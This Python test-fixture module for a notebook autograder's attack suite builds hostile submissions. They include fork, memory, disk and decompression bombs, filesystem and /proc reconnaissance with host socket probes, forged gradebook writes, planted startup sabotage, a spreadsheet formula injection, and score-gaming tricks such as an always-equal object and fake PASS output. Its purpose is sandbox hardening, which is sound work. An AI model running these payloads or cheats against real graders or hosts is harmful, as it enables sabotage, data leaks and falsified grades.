"""Hostile and edge-case submissions for the grader's attack suite (tests/test_grading_attacks.py).

Every fixture is a notebook (or raw bytes) with the statuses it may end with and a score range.
An attack that works earns points: the recon fixture, for instance, defines an answer only when
it could read something it must not, so a leak shows up as a score above zero, and each of its
answers stands for one kind of leak (see :func:`recon`).

``Context`` holds what the fixtures need to know about the host: where the submissions and the
grader's output are, a secret in a host process's command line, a host TCP port that answers
with a token. Fixtures are built for the episodes_protonet homework unless said otherwise.
"""

from __future__ import annotations

import copy
import json
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

from metaedu.grading import notebook as nbtools
from metaedu.grading.spec import load

NAME = "episodes_protonet"
MARK = "987654"  # in the command line of every process a fixture tries to leave behind


@dataclass
class Context:
    submissions: Path  # the folder being graded
    outs: tuple[Path, ...]  # the grader's output folders
    secret: str  # in the command line of a host process
    port: int  # a host TCP port that answers with ``token``
    token: str
    host_ip: str  # a non-loopback address of the host ("" when it has none)


@dataclass
class Fixture:
    content: dict | bytes
    statuses: set[str]
    low: float
    high: float
    sequential: bool = False  # graded in order with the other sequential fixtures (pairs of attacks)


def points(exercise: str, assignment: str = NAME) -> float:
    return sum(t.points for t in load(assignment).tests if t.exercise == exercise)


def solutions(assignment: str = NAME) -> dict[str, str]:
    nb = nbtools.read(load(assignment).solution)
    return {f"answer-{nbtools.meta(c)['exercise']}": c.source for c in nb.cells if "answer" in nbtools.tags(c)}


def student(assignment: str = NAME) -> dict:
    return json.loads(nbformat.writes(nbtools.student_version(nbtools.read(load(assignment).solution))))


def cell(data: dict, cell_id: str) -> dict:
    return next(c for c in data["cells"] if c.get("id") == cell_id)


def solve(data: dict, assignment: str = NAME) -> dict:
    for cell_id, source in solutions(assignment).items():
        cell(data, cell_id)["source"] = source
    return data


def prepend(data: dict, code: str, cell_id: str = "answer-prototypes") -> dict:
    target = cell(data, cell_id)
    target["source"] = code + "\n" + "".join(target["source"])
    return data


def append(data: dict, code: str, cell_id: str) -> dict:
    target = cell(data, cell_id)
    target["source"] = "".join(target["source"]) + "\n" + code
    return data


def fork_bomb() -> dict:
    """A solved notebook with a fork bomb before the definition of ``prototypes``."""
    return prepend(solve(student()), "import os\nwhile True:\n    os.fork()")


# a loss that needs none of the other answers (so that each recon answer stands alone)
STANDALONE_LOSS = """def prototype_loss(z_support, y_support, z_query, y_query, n_way):
    one_hot = F.one_hot(y_support, n_way).to(z_support.dtype)
    protos = (one_hot.transpose(1, 2) @ z_support) / one_hot.sum(1)[..., None]
    logits = -((z_query[:, :, None, :] - protos[:, None, :, :]) ** 2).sum(-1)
    loss = F.cross_entropy(logits.flatten(0, 1), y_query.flatten())
    return loss, (logits.argmax(-1) == y_query).to(logits.dtype).mean()
"""


def recon(ctx: Context) -> dict:
    """Look for what the sandbox must hide; each answer is defined only if one kind of leak worked.

    * ``prototypes`` (5 points): hidden tests or solutions readable -- a file of the assignments
      folder, a ``.git`` that ``git show`` reads them from, anywhere on the filesystem (findings 1, 2);
    * ``squared_distances`` (3): other students' submissions or the grader's output readable, or
      a host process's command line visible (findings 2, 12);
    * ``prototype_loss`` (5): the host's network reachable, through ``socket`` or ``_socket`` (finding 2).
    """
    assignment = load(NAME)
    known = [assignment.folder / "grader_tests.py", assignment.solution]
    others = [ctx.submissions / "correct.ipynb"] + [out / "gradebook.csv" for out in ctx.outs]
    targets = [("127.0.0.1", ctx.port)] + ([(ctx.host_ip, ctx.port)] if ctx.host_ip else [])
    code = textwrap.dedent(f"""
        import glob, os, subprocess, time
        import socket, _socket
        FOUND = {{"tests": [], "others": [], "net": []}}
        for _path in {[str(p) for p in known]!r}:
            if os.path.exists(_path):
                FOUND["tests"].append(_path)
        _git = "HEAD:metaedu/grading/assignments/{NAME}/grader_tests.py"
        _start = time.monotonic()
        for _root, _dirs, _files in os.walk("/"):
            if time.monotonic() - _start > 30:
                break
            _dirs[:] = [d for d in _dirs if os.path.join(_root, d) not in ("/proc", "/sys", "/dev")]
            if "grader_tests.py" in _files or "solution.ipynb" in _files:
                FOUND["tests"].append(_root)
            if ".git" in _dirs or ".git" in _files:
                try:
                    if subprocess.run(["git", "-C", _root, "show", _git], capture_output=True, timeout=20).returncode == 0:
                        FOUND["tests"].append(_root + "/.git")
                except Exception:
                    pass
        for _path in {[str(p) for p in others]!r}:
            try:
                open(_path, "rb").read(10)
                FOUND["others"].append(_path)
            except OSError:
                pass
        for _cmd in glob.glob("/proc/*/cmdline"):
            try:
                if {ctx.secret!r}.encode() in open(_cmd, "rb").read():
                    FOUND["others"].append(_cmd)
            except OSError:
                pass
        for _module in (socket, _socket):
            for _address in {targets!r}:
                try:
                    _s = _module.socket(_module.AF_INET, _module.SOCK_STREAM)
                    _s.settimeout(3)
                    _s.connect(tuple(_address))
                    if _s.recv(64) == {ctx.token.encode()!r}:
                        FOUND["net"].append(repr(_address))
                    _s.close()
                except OSError:
                    pass
        print(FOUND)
    """)
    data = student()
    sources = solutions()
    wrap = lambda condition, source: f"if FOUND[{condition!r}]:\n" + textwrap.indent(source, "    ")  # noqa: E731
    cell(data, "answer-prototypes")["source"] = code + "\n" + wrap("tests", sources["answer-prototypes"])
    cell(data, "answer-distances")["source"] = wrap("others", sources["answer-distances"])
    cell(data, "answer-loss")["source"] = wrap("net", STANDALONE_LOSS)
    return data


def write_results(ctx: Context) -> dict:
    """Forge the sandbox's result files, write the grader's files, and leave a late writer behind."""
    forged_row = "correct.ipynb,ok,13,13\\n"
    paths = [str(out / "gradebook.csv") for out in ctx.outs]
    return prepend(
        student(),
        textwrap.dedent(f"""
        import json, os, subprocess
        import numpy as np
        os.makedirs("out", exist_ok=True)
        json.dump({{"status": "ok", "reason": ""}}, open("out/stage_a.json", "w"))
        for i in range(20):
            np.savez(f"out/result_{{i}}.npz", r0=np.zeros(3))
        for path in {paths!r}:
            try:
                open(path, "a").write({forged_row!r})
            except OSError as err:
                print("blocked:", err)
        # a writer that drops the sandbox's environment and waits for the grader to finish
        late = "; ".join(f"echo {forged_row.strip()} >> {{p}}" for p in {paths!r})
        subprocess.Popen(["env", "-i", "sh", "-c", f"sleep 5; {{late}}; sleep {MARK}"], start_new_session=True)
    """),
    )


def plant(ctx: Context) -> dict:
    """Solved; leaves code behind for the submissions graded after it (findings 2 and 6).

    An IPython startup file that breaks every later kernel, in every folder a kernel might read
    its profile from, and a System V shared-memory segment holding the answers' sources.
    """
    payload = "\n\n".join(solutions().values())
    return append(
        solve(student()),
        textwrap.dedent(f"""
        import ctypes, os
        _sabotage = "raise SystemExit('planted by another submission')\\n"
        for _base in ("/tmp/ipython", os.path.expanduser("~/.ipython"), os.environ.get("IPYTHONDIR", ""), "/tmp", "/dev/shm"):
            if not _base:
                continue
            try:
                _startup = os.path.join(_base, "profile_default", "startup")
                os.makedirs(_startup, exist_ok=True)
                open(os.path.join(_startup, "00-plant.py"), "w").write(_sabotage)
            except OSError:
                pass
        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.shmat.restype = ctypes.c_void_p
        _data = {payload!r}.encode()
        _id = _libc.shmget({int(MARK)}, len(_data) + 1, 0o1666)  # IPC_CREAT | 0666
        if _id >= 0:
            _addr = _libc.shmat(_id, None, 0)
            ctypes.memmove(_addr, _data + b"\\0", len(_data) + 1)
            _libc.shmdt(ctypes.c_void_p(_addr))
    """),
        "answer-loss",
    )


def use_shared_memory() -> dict:
    """An unanswered notebook that runs whatever answers an earlier submission left in shared memory."""
    return append(
        student(),
        textwrap.dedent(f"""
        import ctypes
        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.shmat.restype = ctypes.c_void_p
        _id = _libc.shmget({int(MARK)}, 0, 0)
        if _id >= 0:  # the answers another submission left: they replace this notebook's stubs
            exec(ctypes.string_at(_libc.shmat(_id, None, 0)).decode())
    """),
        "answer-loss",
    )


def memory_children() -> dict:
    """Solved; three child processes of 900 MB each, every one under the per-process limit (finding 4)."""
    return prepend(
        solve(student()),
        textwrap.dedent(f"""
        import subprocess, sys
        _hog = "import sys, time; b = b'x' * (900 * 2**20); print('ready', flush=True); time.sleep(600)  # {MARK}"
        _hogs = [subprocess.Popen([sys.executable, "-c", _hog], stdout=subprocess.PIPE) for _ in range(3)]
        for _p in _hogs:
            _p.stdout.readline()
        for _p in _hogs:
            _p.wait()
    """),
    )


def result_bomb() -> dict:
    """Answers that, when the grader calls them, write result files that decompress to 1.6 GB (finding 5)."""
    bomb = textwrap.dedent("""
        import json, os, shutil, sys, zipfile
        import numpy as np

        def _bomb():
            if "ipykernel" in sys.modules or os.path.exists("out/.bombed"):
                return  # only where the grader calls the functions (stage B), and once
            os.makedirs("out", exist_ok=True)
            header = {"descr": "<f8", "fortran_order": False, "shape": (200_000_000,)}
            with zipfile.ZipFile("out/result_0.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
                with zf.open("r0.npy", "w", force_zip64=True) as fh:
                    np.lib.format.write_array_header_1_0(fh, header)
                    zeros = bytes(8_000_000)
                    for _ in range(200):  # 1.6 GB of zeros, 7 MB compressed
                        fh.write(zeros)
            for i in range(1, 8):
                shutil.copyfile("out/result_0.npz", f"out/result_{i}.npz")
            open("out/.bombed", "w").close()
            # the same through any channel the runner reports on: huge declared shapes, a huge line
            for fd in range(3, 64):
                try:
                    os.write(fd, (json.dumps({"index": 0, "values": [{"dtype": "<f8", "shape": [200_000_000], "data": ""}]}) + "\\n").encode())
                    os.write(fd, b"[" * (40 * 2**20) + b"\\n")
                except OSError:
                    pass

        def prototypes(*args):
            _bomb()
            raise NotImplementedError

        def squared_distances(*args):
            _bomb()
            raise NotImplementedError

        def prototype_loss(*args):
            _bomb()
            raise NotImplementedError
    """)
    data = student()
    cell(data, "answer-prototypes")["source"] = bomb
    cell(data, "answer-distances")["source"] = "pass"
    cell(data, "answer-loss")["source"] = "pass"
    return data


def forged_status() -> dict:
    """Solved, then forge a status (and a formula as its reason) and kill the notebook's runner (finding 10)."""
    return append(
        solve(student()),
        textwrap.dedent("""
        import json, os, signal
        _forged = {"status": "ok", "reason": '=HYPERLINK("http://example.invalid","details")'}
        os.makedirs("out", exist_ok=True)
        json.dump(_forged, open("out/stage_a.json", "w"))
        _runner = os.getppid()
        try:
            _fds = os.listdir(f"/proc/{_runner}/fd")
        except OSError:
            _fds = []
        for _fd in _fds:
            try:
                with open(f"/proc/{_runner}/fd/{_fd}", "a") as _fh:
                    _fh.write(json.dumps(_forged) + "\\n")
            except OSError:
                pass
        os.kill(_runner, signal.SIGKILL)
    """),
        "answer-loss",
    )


def leak_inputs() -> dict:
    """Answers that put their arguments and every file they can see into their errors (finding 9)."""
    leak = textwrap.dedent("""
        import glob, os

        def _leak(*args):
            seen = {p: open(p, "rb").read()[:3000] for p in sorted(glob.glob("*")) + sorted(glob.glob("out/*")) if os.path.isfile(p)}
            text = repr(args)[:4000] + repr(seen)[:4000]
            raise type(repr(args)[:150], (ValueError,), {})(text)

        def prototypes(*args):
            _leak(*args)

        def squared_distances(*args):
            _leak(*args)

        def prototype_loss(*args):
            _leak(*args)
    """)
    data = student()
    cell(data, "answer-prototypes")["source"] = leak
    cell(data, "answer-distances")["source"] = "pass"
    cell(data, "answer-loss")["source"] = "pass"
    return data


# ------------------------------------------------------------------ honest notebooks (finding 7)


def without_ids() -> dict:
    """Solved, saved as nbformat 4.0: no cell ids (metadata kept)."""
    data = solve(student())
    for c in data["cells"]:
        c.pop("id", None)
    data["nbformat_minor"] = 0
    return data


def colab_like() -> dict:
    """Solved, exported without cell ids, tags or our metadata (each cell's metadata holds only an id)."""
    data = without_ids()
    for number, c in enumerate(data["cells"]):
        c["metadata"] = {"id": f"Xq{number:04d}"}
    data["metadata"] = {"colab": {"provenance": []}, "kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return data


def big_output() -> dict:
    """Solved, with 3 MB of printed output kept in the notebook."""
    data = solve(student())
    try_it = next(c for c in reversed(data["cells"]) if c["cell_type"] == "code")
    try_it["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * (3 * 2**20)}]
    return data


def duplicated_answer() -> dict:
    """Solved; the prototypes answer cell pasted again below itself, broken in the copy."""
    data = solve(student())
    index = data["cells"].index(cell(data, "answer-prototypes"))
    copy_ = copy.deepcopy(data["cells"][index])
    copy_["source"] = "def prototypes(*args):\n    raise RuntimeError('the second copy')\n"
    data["cells"].insert(index + 1, copy_)
    return data


def helper_cell() -> dict:
    """Solved with a helper function in a cell the student added before the answer that uses it."""
    data = solve(student())
    index = data["cells"].index(cell(data, "answer-prototypes"))
    helper = "def class_sums(z_support, y_support, n_way):\n    one_hot = F.one_hot(y_support, n_way).to(z_support.dtype)\n    return one_hot.transpose(1, 2) @ z_support, one_hot.sum(1)\n"
    data["cells"].insert(
        index,
        {
            "cell_type": "code",
            "id": "my-helper",
            "metadata": {},
            "source": helper,
            "outputs": [],
            "execution_count": None,
        },
    )
    cell(data, "answer-prototypes")["source"] = (
        "def prototypes(z_support, y_support, n_way):\n    sums, counts = class_sums(z_support, y_support, n_way)\n"
        "    return sums / counts[..., None]\n"
    )
    return data


# ------------------------------------------------------------------ the table


def fixtures(ctx: Context) -> dict[str, Fixture]:
    """name -> fixture; names are the submissions' file names without ``.ipynb``."""
    full = load(NAME).max_points()
    fixtures: dict[str, Fixture] = {}
    fixtures["correct"] = Fixture(solve(student()), {"ok"}, full, full, sequential=True)  # graded after aa_plant
    fixtures["untouched"] = Fixture(student(), {"ok"}, 0, 0)
    always_equal = (
        "class Anything:\n    def __eq__(self, other):\n        return True\n    __ne__ = lambda self, other: False\n"
        "    def __array__(self, *a, **k):\n        raise TypeError('no numbers here')\n"
    )
    data = student()
    for cell_id, function in (
        ("answer-prototypes", "prototypes"),
        ("answer-distances", "squared_distances"),
        ("answer-loss", "prototype_loss"),
    ):
        cell(data, cell_id)["source"] = always_equal + f"def {function}(*args, **kwargs):\n    return Anything()\n"
    fixtures["eq_always_true"] = Fixture(data, {"ok", "cell_error"}, 0, 0)  # the demo cell cannot unpack it
    fixtures["showtraceback"] = Fixture(
        prepend(
            student(),
            "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip._showtraceback = lambda *a, **k: None",
        ),
        {"ok"},
        0,
        0,
    )
    fixtures["input_transformer"] = Fixture(
        prepend(
            student(),
            ("def _swallow(lines):\n    return ['pass\\n']\nget_ipython().input_transformers_cleanup.append(_swallow)"),
        ),
        {"ok", "cell_error"},
        0,
        0,
    )
    data = student()
    for c in data["cells"]:
        c.setdefault("metadata", {})["tags"] = ["skip-execution", "raises-exception"]
    fixtures["skip_and_raises_tags"] = Fixture(data, {"ok"}, 0, 0)
    data = solve(student())
    data["cells"] = [c for c in data["cells"] if c["id"] not in ("answer-distances", "tests-distances")]
    renamed = cell(data, "answer-loss")
    renamed["id"], renamed["metadata"], renamed["source"] = "answer-loss-renamed", {}, "def loss_renamed():\n    pass\n"
    prototypes_points = points("prototypes")
    fixtures["deleted_and_renamed_cells"] = Fixture(data, {"missing_answer"}, prototypes_points, prototypes_points)
    data = solve(student())
    data["metadata"]["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "python"}
    fixtures["edited_kernelspec"] = Fixture(data, {"ok"}, full, full)
    data = student()
    for c in data["cells"]:
        c["metadata"]["tags"] = [t for t in c["metadata"].get("tags", []) if t != "parameters"]
    data["cells"].insert(
        2,
        {
            "cell_type": "code",
            "id": "fake",
            "metadata": {"tags": ["injected-parameters"]},
            "source": "SEED = 123\nprint('PASS')",
            "outputs": [],
            "execution_count": None,
        },
    )
    fixtures["parameters_tampering"] = Fixture(data, {"ok"}, 0, 0)
    fixtures["os_exit"] = Fixture(prepend(solve(student()), "import os\nos._exit(0)"), {"kernel_died"}, 0, 0)
    fixtures["infinite_loop"] = Fixture(
        prepend(
            solve(student()),
            (
                "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                "while True:\n    pass"
            ),
        ),
        {"timeout"},
        0,
        0,
    )
    fixtures["memory_bomb"] = Fixture(
        prepend(solve(student()), ("hog = []\nwhile True:\n    hog.append(bytearray(256 * 2**20))")),
        {"oom", "kernel_died"},
        0,
        0,
    )
    # the process limit makes os.fork() fail in the bombed answer cell: an ordinary cell error,
    # and the answer that does not depend on that cell (the distances: 3 points) still scores
    fixtures["fork_bomb"] = Fixture(fork_bomb(), {"cell_error"}, points("distances"), points("distances"))
    fixtures["background_process"] = Fixture(
        prepend(
            solve(student()),
            (
                f"import subprocess\nsubprocess.Popen(['sleep', '{MARK}'], start_new_session=True)\n"
                f"import os\nif os.fork() == 0:\n    os.setsid()\n    os.execvp('sleep', ['sleep', '{MARK}1'])"
            ),
        ),
        {"ok"},
        full,
        full,
    )
    # the full disk fails the bombed cell (a cell error); the distances answer still scores
    fixtures["fill_the_disk"] = Fixture(
        prepend(
            solve(student()),
            (
                "import os\nfor folder in ('.', '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~')):\n"
                "    for i in range(1000):\n        with open(os.path.join(folder, f'fill{i}'), 'wb') as fh:\n"
                "            fh.write(b'x' * 2**26)"
            ),
        ),
        {"cell_error"},
        points("distances"),
        points("distances"),
    )
    fixtures["stdout_flood"] = Fixture(
        prepend(solve(student()), "for _ in range(20000):\n    print('x' * 1000)"), {"ok"}, full, full
    )
    fixtures["write_results"] = Fixture(write_results(ctx), {"ok"}, 0, 0)
    fixtures["fake_pass_output"] = Fixture(
        prepend(
            student(),
            (
                "for name in ('prototypes', 'distances', 'loss'):\n    print(f'✓ {name}: PASS')\nprint('Score: 13 / 13  PASS')"
            ),
        ),
        {"ok"},
        0,
        0,
    )
    fixtures["not_a_notebook"] = Fixture(b"\x00\x01 this is not json", {"invalid_notebook"}, 0, 0)
    fixtures["too_large"] = Fixture(
        b'{"nbformat": 4, "cells": [], "pad": "' + b"x" * (40 * 2**20) + b'"}', {"invalid_notebook"}, 0, 0
    )
    # issue 17
    fixtures["recon"] = Fixture(recon(ctx), {"ok", "cell_error"}, 0, 0)
    fixtures["aa_plant"] = Fixture(plant(ctx), {"ok"}, full, full, sequential=True)
    fixtures["ab_use_shared_memory"] = Fixture(use_shared_memory(), {"ok", "cell_error"}, 0, 0, sequential=True)
    fixtures["memory_children"] = Fixture(memory_children(), {"oom"}, 0, 0)
    fixtures["result_bomb"] = Fixture(result_bomb(), {"ok"}, 0, 0)
    fixtures["forged_status"] = Fixture(forged_status(), {"kernel_died"}, 0, 0)
    fixtures["leak_inputs"] = Fixture(leak_inputs(), {"ok", "cell_error"}, 0, 0)
    fixtures["honest_without_ids"] = Fixture(without_ids(), {"ok"}, full, full)
    fixtures["honest_colab_like"] = Fixture(colab_like(), {"ok"}, full, full)
    fixtures["honest_big_output"] = Fixture(big_output(), {"ok"}, full, full)
    fixtures["honest_duplicated_answer"] = Fixture(duplicated_answer(), {"ok"}, full, full)
    fixtures["honest_helper_cell"] = Fixture(helper_cell(), {"ok"}, full, full)
    fixtures["honest_instructor_solution"] = Fixture(load(NAME).solution.read_bytes(), {"ok"}, full, full)
    # file names that once crashed the run or wrote formulas into the gradebook (findings 8, 10)
    for name in ("gradebook.csv", "=1+2", "a b", "a_b", "caf\udce9", "-x@y"):
        fixtures[name] = Fixture(b"{}", {"invalid_notebook"}, 0, 0)
    return fixtures


def library_answers() -> dict:
    """The memory homework answered by calling the course library's LRUA functions (finding 12)."""
    data = student("lrua_memory")
    answers = {
        "answer-least_used": "from metaedu.algorithms import mann\n\ndef least_used_weights(usage, n_reads):\n    return mann.least_used_weights(usage, n_reads)\n",
        "answer-usage": "def update_usage(prev_usage, read_w, write_w, gamma):\n    return mann.update_usage(prev_usage, read_w[:, None], write_w[:, None], gamma)\n",
        "answer-write": "def write_weights(prev_read, prev_least_used, alpha):\n    return mann.write_weights(alpha[:, None], prev_read[:, None], prev_least_used)[:, 0]\n",
        "answer-read": "def read_weights(key, memory):\n    return mann.read_weights(key[:, None], memory)[:, 0]\n",
    }
    for cell_id, source in answers.items():
        cell(data, cell_id)["source"] = source
    return data
